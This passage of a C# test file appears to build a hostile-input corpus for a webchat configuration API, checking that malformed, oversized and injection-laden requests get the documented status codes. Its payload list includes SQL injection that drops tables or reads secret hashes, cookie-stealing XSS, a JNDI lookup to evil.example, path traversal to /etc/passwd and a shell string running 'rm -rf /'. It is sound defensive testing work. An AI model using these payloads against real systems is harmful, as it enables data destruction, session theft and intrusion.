using System.Globalization;
using System.Text;
using Webchats.Api.FunctionalTests.Infrastructure;
using Webchats.Api.FunctionalTests.Webchats;
using static Webchats.Api.FunctionalTests.Reliability.HostileContent;

namespace Webchats.Api.FunctionalTests.Reliability;

/// <summary>
/// The hostile-input corpus (issue #5): generated from the tables below, one <see cref="HostileCase"/>
/// per request. Expected statuses come from api.md: malformed bodies and bad values 400, wrong
/// media types 415, bodies over 64 KiB (icons: over 1 MiB) 413. Rows with a 2xx status are inputs
/// that only look hostile and must be stored verbatim.
/// </summary>
public static class HostileInputCorpus
{
    public const string MalformedJson = "Malformed JSON";
    public const string TruncatedJson = "Truncated JSON";
    public const string WrongTypes = "Wrong types";
    public const string DeepNesting = "Deep nesting";
    public const string HugeValues = "Huge strings and arrays";
    public const string ControlCharacters = "NUL and control characters";
    public const string InvalidUtf8 = "Invalid UTF-8";
    public const string LoneSurrogates = "Lone surrogates";
    public const string PrototypeKeys = "Prototype and operator keys";
    public const string Injection = "SQL and script payloads";
    public const string RouteIds = "Hostile route ids";
    public const string Numbers = "Numbers";
    public const string DuplicateKeys = "Duplicate keys";
    public const string ContentTypes = "Content types and charsets";
    public const string EmptyBodies = "Empty bodies";
    public const string Oversize = "Oversize bodies";
    public const string Multipart = "Multipart abuse";
    public const string Headers = "Hostile headers";
    public const string TokenGrants = "Token grants and lifetimes";
    public const string ProbeFindings = "Black-box probe (issue 18)";

    private const int MaxJson = 64 * 1024;

    private static readonly Target[] JsonTargets = [Target.Create, Target.Put, Target.Patch, Target.Token];
    private static readonly Target[] WebchatTargets = [Target.Create, Target.Put, Target.Patch];

    private static readonly string[] StringFields =
    [
        "name", "description", "starterMessage", "backgroundColor", "primaryColor", "secondaryColor", "headerTextColor",
        "statusTextColor", "timestampColor", "csatBackgroundColor", "csatTextColor", "icon", "statusText",
        "csatThankYouMessage", "promptId", "pipelineId", "pipelineStage", "initialStage", "position",
    ];

    private static readonly string[] FreeTextFields = ["name", "description", "starterMessage", "statusText", "csatThankYouMessage"];
    private static readonly string[] SingleLineTextFields = ["name", "statusText", "pipelineStage", "initialStage"];
    private static readonly string[] MultiLineTextFields = ["description", "starterMessage", "csatThankYouMessage"];
    private static readonly string[] StructuredStringFields =
    [
        "backgroundColor", "primaryColor", "secondaryColor", "headerTextColor", "statusTextColor", "timestampColor",
        "csatBackgroundColor", "csatTextColor", "promptId", "pipelineId", "pipelineStage", "initialStage", "position", "icon",
    ];

    private static readonly string[] BooleanFields = ["isAutopilot", "isEnabled"];
    private static readonly string[] IntegerFields = ["offsetX", "offsetY", "zIndex"];
    private static readonly string[] ReadOnlyFields = ["_id", "organizationId", "userId", "createdBy", "updatedBy", "createdAt", "updatedAt"];

    private static readonly string[] NotAString = ["42", "true", "[]", "{}", """["text"]"""];
    private static readonly string[] NotABoolean = ["\"true\"", "1", "0", "[true]", "{}"];
    private static readonly string[] NotAnInteger = ["\"24\"", "true", "[24]", """{"value":24}""", "\"1e2\""];
    private static readonly string[] NotAListOfOrigins =
    [
        "\"https://a.example\"", "{}", "[1]", "[true]", """[["https://a.example"]]""", "[{}]", "42", "true", "[null]",
    ];

    private static readonly string[] NotReadOnlyText = ["42", "true", "{}", "[]"];

    /// <summary>Text that looks like an attack on a database, a browser, a template engine or a shell.</summary>
    private static readonly string[] InjectionPayloads =
    [
        "'; DROP TABLE webchats; --",
        "\" OR \"\"=\"",
        "1' OR '1'='1' --",
        "'); DELETE FROM api_tokens; --",
        "' UNION SELECT secret_hash FROM api_tokens --",
        "SELECT pg_sleep(10);",
        "<script>alert(document.cookie)</script>",
        "\"><img src=x onerror=alert(1)>",
        "javascript:alert(1)",
        "{{constructor.constructor('alert(1)')()}}",
        "${jndi:ldap://evil.example/a}",
        "../../../../etc/passwd",
        "%00%27%22%3Cscript%3E",
        "$(reboot) `reboot` | rm -rf /",
    ];

    private static readonly (string Name, byte[] Bytes)[] BadUtf8 =
    [
        ("byte FF", [0xFF]),
        ("byte FE", [0xFE]),
        ("overlong NUL C0 80", [0xC0, 0x80]),
        ("encoded surrogate ED A0 80", [0xED, 0xA0, 0x80]),
        ("truncated sequence E2 82", [0xE2, 0x82]),
        ("lone continuation byte 80", [0x80]),
        ("above U+10FFFF F4 90 80 80", [0xF4, 0x90, 0x80, 0x80]),
        ("five-byte form F8 88 80 80 80", [0xF8, 0x88, 0x80, 0x80, 0x80]),
    ];

    private static readonly byte[] Png = IconUploadTests.Png;
    private static readonly byte[] Gif = global::Webchats.Tests.Shared.IconSamples.Gif();

    private static readonly Lazy<IReadOnlyList<HostileCase>> Corpus = new(Build);

    public static IReadOnlyList<HostileCase> All => Corpus.Value;

    /// <summary>
    /// Rows the service answers wrongly today, reported to the lead with request, response and cause
    /// (docs/reliability.md). Each is ignored with its reason, so the suite stays green and the row
    /// runs again the moment its Ignore is removed. Every entry must match at least one row.
    /// </summary>
    private static readonly (Target Target, string Description, string Bug)[] KnownBugs = [];

    public static IEnumerable<TestCaseData> Cases() =>
        All.Select(c =>
        {
            var data = new TestCaseData(c).SetName(c.Name).SetCategory("Reliability");
            return c.Bug is null ? data : data.Ignore("BUG: " + c.Bug);
        });

    private static List<HostileCase> Build()
    {
        var cases = new List<HostileCase>();
        AddMalformedJson(cases);
        AddTruncatedJson(cases);
        AddWrongTypes(cases);
        AddDeepNesting(cases);
        AddHugeValues(cases);
        AddControlCharacters(cases);
        AddInvalidUtf8(cases);
        AddLoneSurrogates(cases);
        AddPrototypeKeys(cases);
        AddInjection(cases);
        AddRouteIds(cases);
        AddNumbers(cases);
        AddDuplicateKeys(cases);
        AddContentTypes(cases);
        AddEmptyBodies(cases);
        AddOversize(cases);
        AddMultipart(cases);
        AddHeaders(cases);
        AddTokenGrants(cases);
        AddProbeFindings(cases);
        foreach (var (target, description, bug) in KnownBugs)
        {
            var matches = cases.Where(c => c.Target == target && c.Description == description).ToList();
            if (matches.Count == 0)
            {
                throw new InvalidOperationException($"Known bug '{description}' matches no row of the corpus.");
            }

            matches.ForEach(c => c.Bug = bug);
        }

        return cases;
    }

    private static void AddMalformedJson(List<HostileCase> cases)
    {
        string[] bodies =
        [
            "{", "}", "{\"name\":", "{\"name\":\"x\"", "{\"name\":\"x\",}", "{name:\"x\"}", "{'name':'x'}", "{\"name\":'x'}",
            "{\"name\":\"x\"}}", "{\"name\":\"x\"} {}", "{\"name\":\"x\" \"description\":\"y\"}", "{\"name\":\"x\",,\"description\":\"y\"}",
            "{\"name\" \"x\"}", "{\"name\":\"x\":\"y\"}", "{,}", "{\"allowedDomains\":[\"https://a.example\",]}",
            "{\"allowedDomains\":[\"https://a.example\" \"https://b.example\"]}", "{\"name\":\"x\"/* comment */}",
            "{\"name\":\"x\"} // comment", "{\"name\":\"\\x\"}", "{\"name\":\"\\u12\"}", "{\"name\":\"\\uZZZZ\"}", "{\"name\":\"a",
            "{\"name\":NaN}", "{\"name\":Infinity}", "{\"name\":undefined}", "{\"offsetX\":01}", "{\"offsetX\":+1}",
            "{\"offsetX\":.5}", "{\"offsetX\":1.}", "{\"offsetX\":0x10}", "{\"isEnabled\":True}", "{\"isEnabled\":tru}",
            "{\"isEnabled\":nul}", "[]", "[{\"name\":\"x\"}]", "\"text\"", "42", "true", "null",
        ];
        foreach (var target in JsonTargets)
        {
            foreach (var body in bodies)
            {
                cases.Add(JsonCase(MalformedJson, target, $"body {body}", body, 400));
            }

            cases.Add(Case(MalformedJson, target, "NUL byte after the object", Concat(Utf8("{\"name\":\"x\"}"), [0]), 400));
            cases.Add(Case(MalformedJson, target, "UTF-8 byte order mark before the object", Concat([0xEF, 0xBB, 0xBF], Utf8(ValidBody(target))), 400));
        }
    }

    /// <summary>
    /// Issue 18, finding 1: a token body that asks for what no token may have. (Asking for more than
    /// the caller holds depends on the caller: the auth matrix has those rows.)
    /// </summary>
    private static void AddTokenGrants(List<HostileCase> cases)
    {
        (string Description, string Body, int Status, string? Field, string? Stored)[] rows =
        [
            ("scopes [tokens:manage]", TokenWith("scopes", """["tokens:manage"]"""), 400, null, null),
            ("scopes [webchats:read, tokens:manage]", TokenWith("scopes", """["webchats:read","tokens:manage"]"""), 400, null, null),
            ("scopes [TOKENS:MANAGE]", TokenWith("scopes", """["TOKENS:MANAGE"]"""), 400, null, null),
            ("expiresAt in 2099", TokenWith("expiresAt", Lit("2099-01-01T00:00:00Z")), 400, null, null),
            ("expiresAt in the past", TokenWith("expiresAt", Lit("2000-01-01T00:00:00Z")), 400, null, null),
            ("expiresAt within two years", TokenWith("expiresAt", Lit("2027-01-01T00:00:00Z")), 201, "expiresAt", "\"2027-01-01T00:00:00.000Z\""),
        ];
        foreach (var (description, body, status, field, stored) in rows)
        {
            cases.Add(JsonCase(TokenGrants, Target.Token, description, body, status, field, stored));
        }
    }

    private static void AddTruncatedJson(List<HostileCase> cases)
    {
        foreach (var target in JsonTargets)
        {
            var full = target == Target.Token
                ? """{"name":"truncated token","scopes":["webchats:read","webchats:write"],"expiresAt":"2030-01-01T00:00:00Z"}"""
                : SharedWorld.FullWebchat.Replace("\n", " ", StringComparison.Ordinal);
            foreach (var length in new[] { 1, full.Length / 4, full.Length / 2, full.Length * 3 / 4, full.Length - 1 })
            {
                cases.Add(JsonCase(TruncatedJson, target, $"full body cut to {length} of {full.Length} bytes", full[..length], 400));
            }
        }
    }

    private static void AddWrongTypes(List<HostileCase> cases)
    {
        var table = StringFields.Select(f => (Field: f, Values: NotAString))
            .Concat(BooleanFields.Select(f => (Field: f, Values: NotABoolean)))
            .Concat(IntegerFields.Select(f => (Field: f, Values: NotAnInteger)))
            .Append((Field: "allowedDomains", Values: NotAListOfOrigins))
            .Concat(ReadOnlyFields.Select(f => (Field: f, Values: NotReadOnlyText)))
            .ToList();

        // Every wrong value of every field on PUT; on POST and PATCH one wrong value per field, rotating.
        for (var i = 0; i < table.Count; i++)
        {
            var (field, values) = table[i];
            foreach (var value in values)
            {
                cases.Add(JsonCase(WrongTypes, Target.Put, $"{field} = {value}", WithField(Target.Put, field, value), 400));
            }

            cases.Add(JsonCase(WrongTypes, Target.Create, $"{field} = {values[i % values.Length]}", WithField(Target.Create, field, values[i % values.Length]), 400));
            cases.Add(JsonCase(WrongTypes, Target.Patch, $"{field} = {values[(i + 1) % values.Length]}", WithField(Target.Patch, field, values[(i + 1) % values.Length]), 400));
        }

        string[] tokenNames = ["42", "true", "[]", "{}", """["text"]"""];
        string[] tokenScopes = ["\"webchats:read\"", "42", "{}", "[1]", """[["webchats:read"]]""", "true", "[null]", """{"0":"webchats:read"}"""];
        string[] tokenExpiries = ["42", "true", "[]", "{}", "\"yesterday\"", "\"2030-13-01T00:00:00Z\"", "\"2030-01-01T25:00:00Z\"", "\"\""];
        foreach (var (field, values) in new[] { ("name", tokenNames), ("scopes", tokenScopes), ("expiresAt", tokenExpiries) })
        {
            foreach (var value in values)
            {
                cases.Add(JsonCase(WrongTypes, Target.Token, $"{field} = {value}", WithField(Target.Token, field, value), 400));
            }
        }
    }

    private static void AddDeepNesting(List<HostileCase> cases)
    {
        (string Name, string Body)[] bodies =
        [
            ("33 nested objects at the root", Repeat("{\"a\":", 33) + "1" + Repeat("}", 33)),
            ("33 nested arrays in a field", "{\"description\":" + Repeat("[", 33) + Repeat("]", 33) + "}"),
            ("31 nested arrays in a field, within the depth limit", "{\"description\":" + Repeat("[", 31) + Repeat("]", 31) + "}"),
            ("64 nested arrays in allowedDomains", "{\"allowedDomains\":" + Repeat("[", 64) + Repeat("]", 64) + "}"),
            ("1000 nested objects in a field", "{\"description\":" + Repeat("{\"a\":", 1000) + "1" + Repeat("}", 1000) + "}"),
            ("1000 alternating objects and arrays", "{\"description\":" + Repeat("[{\"a\":", 500) + "1" + Repeat("}]", 500) + "}"),
            ("30000 unclosed arrays", "{\"description\":" + Repeat("[", 30000)),
            ("50000 nested arrays as the root", Repeat("[", 25000) + Repeat("]", 25000)),
        ];
        foreach (var target in JsonTargets)
        {
            foreach (var (name, body) in bodies)
            {
                cases.Add(JsonCase(DeepNesting, target, name, body, 400));
            }
        }
    }

    private static void AddHugeValues(List<HostileCase> cases)
    {
        const string Emoji = "\U0001F600";
        (Target Target, string Name, string Body, int Status, string? Field, string? Stored)[] rows =
        [
            (Target.Put, "name of 121 characters", Str("name", new string('n', 121)), 400, null, null),
            (Target.Put, "name of 60000 characters", Str("name", new string('n', 60_000)), 400, null, null),
            (Target.Put, "name x padded with 5000 spaces is trimmed", Str("name", "x" + new string(' ', 5000)), 200, "name", "\"x\""),
            (Target.Put, "description of 1001 characters", Str("description", new string('d', 1001)), 400, null, null),
            (Target.Put, "description of 1000 emoji is 1000 scalars", Str("description", Repeat(Emoji, 1000)), 200, "description", Lit(Repeat(Emoji, 1000))),
            (Target.Put, "description of 1001 emoji", Str("description", Repeat(Emoji, 1001)), 400, null, null),
            (Target.Put, "description of 60000 characters", Str("description", new string('d', 60_000)), 400, null, null),
            (Target.Put, "starterMessage of 1001 characters", Str("starterMessage", new string('s', 1001)), 400, null, null),
            (Target.Put, "statusText of 121 characters", Str("statusText", new string('s', 121)), 400, null, null),
            (Target.Put, "csatThankYouMessage of 501 characters", Str("csatThankYouMessage", new string('c', 501)), 400, null, null),
            (Target.Put, "pipelineStage of 65 characters", Str("pipelineStage", new string('p', 65)), 400, null, null),
            (Target.Put, "initialStage of 60000 characters", Str("initialStage", new string('p', 60_000)), 400, null, null),
            (Target.Put, "icon of 2049 characters", Str("icon", "orgs/" + new string('i', 2044)), 400, null, null),
            (Target.Put, "icon of 60000 characters", Str("icon", new string('i', 60_000)), 400, null, null),
            (Target.Put, "primaryColor of 60000 characters", Str("primaryColor", "#" + new string('A', 59_999)), 400, null, null),
            (Target.Put, "promptId of 60000 characters", Str("promptId", new string('a', 60_000)), 400, null, null),
            (Target.Put, "position of 60000 characters", Str("position", new string('b', 60_000)), 400, null, null),
            (Target.Put, "allowedDomains with 101 entries", Origins(101), 400, null, null),
            (Target.Put, "allowedDomains with 2000 entries", Origins(2000), 400, null, null),
            (Target.Put, "allowedDomains with one origin of 60000 characters", "{\"allowedDomains\":[\"https://" + new string('a', 60_000) + ".example\"]}", 400, null, null),
            (Target.Put, "5000 unknown properties", "{" + string.Join(',', Enumerable.Range(0, 5000).Select(i => $"\"p{i}\":0")) + "}", 400, null, null),
            (Target.Put, "property name of 60000 characters", "{\"" + new string('k', 60_000) + "\":1}", 400, null, null),
            (Target.Put, "offsetX with 60000 digits", "{\"offsetX\":" + new string('9', 60_000) + "}", 400, null, null),
            (Target.Put, "description as an array of 20000 numbers", "{\"description\":[" + string.Join(',', Enumerable.Repeat("0", 20_000)) + "]}", 400, null, null),
            (Target.Put, "string of 20000 escaped characters", Str("description", "x").Replace("\"x\"", "\"" + Repeat("\\u0041", 2000) + "\"", StringComparison.Ordinal), 400, null, null),
            (Target.Create, "name of 121 characters", Str("name", new string('n', 121)), 400, null, null),
            (Target.Create, "name of 60000 characters", Str("name", new string('n', 60_000)), 400, null, null),
            (Target.Create, "description of 60000 characters", "{\"name\":\"x\",\"description\":\"" + new string('d', 60_000) + "\"}", 400, null, null),
            (Target.Create, "allowedDomains with 101 entries", Origins(101).Replace("{", "{\"name\":\"x\",", StringComparison.Ordinal), 400, null, null),
            (Target.Patch, "csatThankYouMessage of 60000 characters", Str("csatThankYouMessage", new string('c', 60_000)), 400, null, null),
            (Target.Token, "name of 121 characters", TokenWith("name", Lit(new string('t', 121))), 400, null, null),
            (Target.Token, "name of 60000 characters", TokenWith("name", Lit(new string('t', 60_000))), 400, null, null),
            (Target.Token, "name x padded with 200 spaces is trimmed", TokenWith("name", Lit("x" + new string(' ', 200))), 201, "name", "\"x\""),
            (Target.Token, "scopes with 3000 copies of one scope are one scope", TokenWith("scopes", "[" + string.Join(',', Enumerable.Repeat("\"webchats:read\"", 3000)) + "]"), 201, "scopes", "[\"webchats:read\"]"),
            (Target.Token, "scopes with one scope of 60000 characters", TokenWith("scopes", "[\"" + new string('s', 60_000) + "\"]"), 400, null, null),
        ];
        foreach (var (target, name, body, status, field, stored) in rows)
        {
            cases.Add(JsonCase(HugeValues, target, name, body, status, field, stored));
        }
    }

    private static void AddControlCharacters(List<HostileCase> cases)
    {
        (string Name, string Escape)[] refusedEverywhere =
        [
            ("NUL", "\\u0000"), ("SOH U+0001", "\\u0001"), ("BEL U+0007", "\\u0007"), ("ESC U+001B", "\\u001b"),
            ("DEL U+007F", "\\u007f"), ("NEL U+0085", "\\u0085"),
        ];
        (string Name, string Escape)[] lineBreaks = [("line feed", "\\n"), ("carriage return", "\\r"), ("tab", "\\t")];

        foreach (var field in SingleLineTextFields)
        {
            foreach (var (name, escape) in refusedEverywhere.Concat(lineBreaks))
            {
                cases.Add(JsonCase(ControlCharacters, Target.Put, $"{name} in {field}", $$"""{"{{field}}":"a{{escape}}b"}""", 400));
            }
        }

        foreach (var field in MultiLineTextFields)
        {
            foreach (var (name, escape) in refusedEverywhere)
            {
                cases.Add(JsonCase(ControlCharacters, Target.Put, $"{name} in {field}", $$"""{"{{field}}":"a{{escape}}b"}""", 400));
            }

            // Line breaks and tabs are allowed in multi-line texts (ADR 0002).
            cases.Add(JsonCase(ControlCharacters, Target.Put, $"line feed in {field} is allowed", $$"""{"{{field}}":"a\nb"}""", 200, field, "\"a\\nb\""));
            cases.Add(JsonCase(ControlCharacters, Target.Put, $"CRLF in {field} is allowed", $$"""{"{{field}}":"a\r\nb"}""", 200, field, "\"a\\r\\nb\""));
            cases.Add(JsonCase(ControlCharacters, Target.Put, $"tab in {field} is allowed", $$"""{"{{field}}":"a\tb"}""", 200, field, "\"a\\tb\""));
        }

        foreach (var field in new[] { "primaryColor", "csatTextColor", "promptId", "pipelineId", "position", "icon", "_id", "createdAt" })
        {
            cases.Add(JsonCase(ControlCharacters, Target.Put, $"NUL in {field}", $$"""{"{{field}}":"\u0000"}""", 400));
        }

        cases.Add(JsonCase(ControlCharacters, Target.Put, "NUL in allowedDomains[0]", """{"allowedDomains":["https://a\u0000.example"]}""", 400));
        cases.Add(JsonCase(ControlCharacters, Target.Create, "NUL in name", """{"name":"a\u0000b"}""", 400));
        cases.Add(JsonCase(ControlCharacters, Target.Create, "NUL in description", """{"name":"x","description":"a\u0000b"}""", 400));
        cases.Add(JsonCase(ControlCharacters, Target.Patch, "BEL in name", """{"name":"a\u0007b"}""", 400));
        cases.Add(JsonCase(ControlCharacters, Target.Patch, "NUL in starterMessage", """{"starterMessage":"\u0000"}""", 400));
        foreach (var (name, escape) in new[] { ("NUL", "\\u0000"), ("BEL U+0007", "\\u0007"), ("ESC U+001B", "\\u001b"), ("line feed", "\\n") })
        {
            cases.Add(JsonCase(ControlCharacters, Target.Token, $"{name} in name", TokenWith("name", $"\"a{escape}b\""), 400));
        }

        cases.Add(JsonCase(ControlCharacters, Target.Token, "NUL in a scope", TokenWith("scopes", "[\"webchats:read\\u0000\"]"), 400));

        // Unescaped control bytes inside a string are not JSON at all.
        foreach (var (name, b) in new[] { ("raw NUL byte", (byte)0x00), ("raw 0x01 byte", (byte)0x01), ("raw line feed byte", (byte)0x0A), ("raw 0x1F byte", (byte)0x1F) })
        {
            foreach (var target in JsonTargets)
            {
                cases.Add(Case(ControlCharacters, target, $"{name} inside a string", Concat(Utf8("{\"name\":\"a"), [b], Utf8(target == Target.Token ? "b\",\"scopes\":[\"webchats:read\"]}" : "b\"}")), 400));
            }
        }

        // Format and separator characters next to visible ones are not control characters: legitimate
        // text, stored as sent (bidi overrides are refused in names: AddProbeFindings).
        foreach (var (name, escape) in new[] { ("zero-width space U+200B", "\\u200b"), ("line separator U+2028", "\\u2028"), ("BOM U+FEFF inside", "\\ufeff") })
        {
            cases.Add(JsonCase(ControlCharacters, Target.Put, $"{name} in name is text", $$"""{"name":"a{{escape}}b"}""", 200, "name", $"\"a{escape}b\""));
        }
    }

    /// <summary>
    /// Findings 10, 12 and 13 of the black-box probe (finding 2, HTTP framing, needs a real socket:
    /// Operations/HttpFramingTests): wildcards under a public suffix, texts that show nothing, bidi
    /// controls in names, and bodies with thousands of errors (400, the problem capped).
    /// </summary>
    private static void AddProbeFindings(List<HostileCase> cases)
    {
        foreach (var origin in new[] { "https://*.co.uk", "https://*.github.io", "https://*.com", "https://*.foo.ck", "https://*.xn--55qx5d.cn" })
        {
            cases.Add(JsonCase(ProbeFindings, Target.Put, $"allowedDomains wildcard {origin} under a public suffix", $$"""{"allowedDomains":["{{origin}}"]}""", 400));
        }

        cases.Add(JsonCase(ProbeFindings, Target.Create, "allowedDomains wildcard https://*.co.uk under a public suffix", """{"name":"x","allowedDomains":["https://*.co.uk"]}""", 400));
        cases.Add(JsonCase(ProbeFindings, Target.Put, "allowedDomains wildcard under a registrable name of a public suffix", """{"allowedDomains":["https://*.example.co.uk"]}""", 200, "allowedDomains", """["https://*.example.co.uk"]"""));
        cases.Add(JsonCase(ProbeFindings, Target.Put, "allowedDomains wildcard under the exception www.ck", """{"allowedDomains":["https://*.www.ck"]}""", 200, "allowedDomains", """["https://*.www.ck"]"""));

        (string Name, string Escaped)[] invisible =
        [
            ("zero-width space U+200B", "\\u200b"), ("BOM U+FEFF", "\\ufeff"), ("soft hyphen U+00AD", "\\u00ad"),
            ("U+200B U+FEFF U+00AD", "\\u200b\\ufeff\\u00ad"), ("word joiner U+2060 around a space", "\\u2060 \\u2060"),
        ];
        foreach (var (name, escaped) in invisible)
        {
            foreach (var target in JsonTargets)
            {
                cases.Add(JsonCase(ProbeFindings, target, $"name of only {name}", WithField(target, "name", $"\"{escaped}\""), 400));
            }

            foreach (var field in new[] { "description", "starterMessage", "statusText", "csatThankYouMessage" })
            {
                cases.Add(JsonCase(ProbeFindings, Target.Put, $"{field} of only {name}", $$"""{"{{field}}":"{{escaped}}"}""", 400));
            }
        }

        foreach (var (name, escape) in new[] { ("right-to-left override U+202E", "\\u202e"), ("left-to-right embedding U+202A", "\\u202a"), ("first strong isolate U+2068", "\\u2068"), ("pop directional isolate U+2069", "\\u2069") })
        {
            foreach (var target in JsonTargets)
            {
                cases.Add(JsonCase(ProbeFindings, target, $"{name} in name", WithField(target, "name", $"\"a{escape}b\""), 400));
            }

            cases.Add(JsonCase(ProbeFindings, Target.Put, $"{name} in description is text", $$"""{"description":"a{{escape}}b"}""", 200, "description", $"\"a{escape}b\""));
        }

        cases.Add(JsonCase(ProbeFindings, Target.Put, "6000 unknown properties (the problem lists 100)", "{" + string.Join(',', Enumerable.Range(0, 6000).Select(i => $"\"p{i}\":0")) + "}", 400));
        cases.Add(JsonCase(ProbeFindings, Target.Patch, "3000 copies of name (the problem lists 100)", "{" + string.Join(',', Enumerable.Repeat("\"name\":\"x\"", 3000)) + "}", 400));
    }

    private static void AddInvalidUtf8(List<HostileCase> cases)
    {
        foreach (var target in JsonTargets)
        {
            var tail = target == Target.Token ? "b\",\"scopes\":[\"webchats:read\"]}" : "b\"}";
            foreach (var (name, bytes) in BadUtf8)
            {
                cases.Add(Case(InvalidUtf8, target, $"{name} in name", Concat(Utf8("{\"name\":\"a"), bytes, Utf8(tail)), 400));
            }

            cases.Add(Case(InvalidUtf8, target, "byte FF in a property name", Concat(Utf8("{\"na"), [0xFF], Utf8("me\":\"x\"}")), 400));
            cases.Add(Case(InvalidUtf8, target, "byte FF between tokens", Concat(Utf8("{\"name\":\"x\""), [0xFF], Utf8("}")), 400));
        }

        cases.Add(Case(InvalidUtf8, Target.Put, "Latin-1 encoded text in description", Encoding.Latin1.GetBytes("{\"description\":\"Café crème\"}"), 400));
        cases.Add(Case(InvalidUtf8, Target.Put, "UTF-16 encoded body", Encoding.Unicode.GetBytes("{\"description\":\"x\"}"), 400));
        cases.Add(Case(InvalidUtf8, Target.Put, "byte FF in allowedDomains[0]", Concat(Utf8("{\"allowedDomains\":[\"https://a"), [0xFF], Utf8(".example\"]}")), 400));
        cases.Add(Case(InvalidUtf8, Target.Put, "byte C3 at the end of the body", Concat(Utf8("{\"description\":\"x\"}"), [0xC3]), 400));
    }

    private static void AddLoneSurrogates(List<HostileCase> cases)
    {
        (string Name, string Escaped)[] forms =
        [
            ("lone high surrogate", "\\ud800"), ("lone low surrogate", "\\udfff"), ("high surrogate between letters", "a\\ud800b"),
            ("reversed pair", "\\udc00\\ud800"), ("two high surrogates", "\\ud800\\ud800"), ("emoji cut in half", "x\\ud83d"),
        ];
        foreach (var field in new[] { "name", "description" })
        {
            foreach (var (name, escaped) in forms)
            {
                cases.Add(JsonCase(LoneSurrogates, Target.Put, $"{name} in {field}", $$"""{"{{field}}":"{{escaped}}"}""", 400));
            }
        }

        foreach (var field in new[] { "starterMessage", "statusText", "csatThankYouMessage", "pipelineStage", "primaryColor", "icon", "promptId", "position", "_id" })
        {
            foreach (var (name, escaped) in forms.Where((_, i) => i is 0 or 3))
            {
                cases.Add(JsonCase(LoneSurrogates, Target.Put, $"{name} in {field}", $$"""{"{{field}}":"{{escaped}}"}""", 400));
            }
        }

        cases.Add(JsonCase(LoneSurrogates, Target.Put, "lone high surrogate in allowedDomains[0]", """{"allowedDomains":["https://\ud800.example"]}""", 400));
        foreach (var target in JsonTargets)
        {
            cases.Add(JsonCase(LoneSurrogates, target, "lone surrogate as a property name", """{"\ud800":"x"}""", 400));
        }

        cases.Add(JsonCase(LoneSurrogates, Target.Create, "lone high surrogate in name", """{"name":"\ud800"}""", 400));
        cases.Add(JsonCase(LoneSurrogates, Target.Patch, "lone low surrogate in description", """{"description":"\udfff"}""", 400));
        cases.Add(JsonCase(LoneSurrogates, Target.Token, "lone high surrogate in name", TokenWith("name", "\"\\ud800\""), 400));
        cases.Add(JsonCase(LoneSurrogates, Target.Token, "lone low surrogate in name", TokenWith("name", "\"a\\udc00\""), 400));
        cases.Add(JsonCase(LoneSurrogates, Target.Token, "lone surrogate in a scope", TokenWith("scopes", "[\"webchats:read\\ud800\"]"), 400));

        // A correctly escaped pair is an ordinary character.
        cases.Add(JsonCase(LoneSurrogates, Target.Put, "escaped surrogate pair in name is an emoji", """{"name":"\ud83d\ude00"}""", 200, "name", "\"\U0001F600\""));
        cases.Add(JsonCase(LoneSurrogates, Target.Create, "escaped surrogate pair in name is an emoji", """{"name":"\ud83d\ude00"}""", 201, "name", "\"\U0001F600\""));
        cases.Add(JsonCase(LoneSurrogates, Target.Token, "escaped surrogate pair in name is an emoji", TokenWith("name", "\"\\ud83d\\ude00\""), 201, "name", "\"\U0001F600\""));
    }

    private static void AddPrototypeKeys(List<HostileCase> cases)
    {
        (string Name, string Property)[] properties =
        [
            ("__proto__ object", "\"__proto__\":{\"isAdmin\":true}"),
            ("__proto__ null", "\"__proto__\":null"),
            ("constructor.prototype", "\"constructor\":{\"prototype\":{\"isAdmin\":true}}"),
            ("prototype", "\"prototype\":{}"),
            ("__defineGetter__", "\"__defineGetter__\":\"x\""),
            ("hasOwnProperty", "\"hasOwnProperty\":\"x\""),
            ("toString", "\"toString\":\"x\""),
            ("$where operator", "\"$where\":\"1 == 1\""),
            ("$set operator", $"\"$set\":{{\"organizationId\":\"{FunctionalTest.OrgB}\"}}"),
            ("dotted path name.first", "\"name.first\":\"x\""),
            ("empty property name", "\"\":\"x\""),
            ("leading space in name", "\" name\":\"x\""),
            ("upper-case NAME", "\"NAME\":\"x\""),
            ("id without underscore", $"\"id\":\"{FunctionalTest.MissingId}\""),
            ("organizationID casing", $"\"organizationID\":\"{FunctionalTest.OrgB}\""),
            ("isAdmin", "\"isAdmin\":true"),
            ("internal deletedAt", "\"deletedAt\":null"),
            ("internal iconKey", $"\"iconKey\":\"orgs/{FunctionalTest.OrgB}/x.png\""),
            ("internal version", "\"version\":1"),
            ("internal secretHash", "\"secretHash\":\"AAAA\""),
        ];
        foreach (var target in JsonTargets)
        {
            foreach (var (name, property) in properties)
            {
                var body = target switch
                {
                    Target.Create => $"{{\"name\":\"x\",{property}}}",
                    Target.Token => $"{{\"name\":\"x\",\"scopes\":[\"webchats:read\"],{property}}}",
                    _ => $"{{{property}}}",
                };
                cases.Add(JsonCase(PrototypeKeys, target, $"unknown property {name}", body, 400));
            }
        }

        foreach (var target in JsonTargets)
        {
            cases.Add(JsonCase(PrototypeKeys, target, "operator object $ne as the name", WithField(target, "name", """{"$ne":null}"""), 400));
            cases.Add(JsonCase(PrototypeKeys, target, "operator object $gt as the name", WithField(target, "name", """{"$gt":""}"""), 400));
        }
    }

    private static void AddInjection(List<HostileCase> cases)
    {
        // Free text is just text: stored and returned exactly as sent.
        foreach (var field in FreeTextFields)
        {
            foreach (var payload in InjectionPayloads)
            {
                cases.Add(JsonCase(Injection, Target.Put, $"{payload} in {field}", WithField(Target.Put, field, Lit(payload)), 200, field, Lit(payload)));
            }
        }

        foreach (var payload in InjectionPayloads.Take(7))
        {
            cases.Add(JsonCase(Injection, Target.Create, $"{payload} in name", WithField(Target.Create, "name", Lit(payload)), 201, "name", Lit(payload)));
        }

        foreach (var payload in InjectionPayloads.Skip(7))
        {
            cases.Add(JsonCase(Injection, Target.Patch, $"{payload} in description", WithField(Target.Patch, "description", Lit(payload)), 200, "description", Lit(payload)));
        }

        foreach (var payload in InjectionPayloads)
        {
            cases.Add(JsonCase(Injection, Target.Token, $"{payload} in name", WithField(Target.Token, "name", Lit(payload)), 201, "name", Lit(payload)));
        }

        // Structured fields have a grammar (colour, id, stage of the pipeline, position, icon reference, origin): refused.
        string[] structuredPayloads = [InjectionPayloads[0], InjectionPayloads[6], InjectionPayloads[11]];
        foreach (var field in StructuredStringFields)
        {
            foreach (var payload in structuredPayloads)
            {
                cases.Add(JsonCase(Injection, Target.Put, $"{payload} in {field}", WithField(Target.Put, field, Lit(payload)), 400));
            }
        }

        foreach (var payload in structuredPayloads.Append("javascript:alert(1)").Append("https://a.example/'; DROP TABLE webchats; --"))
        {
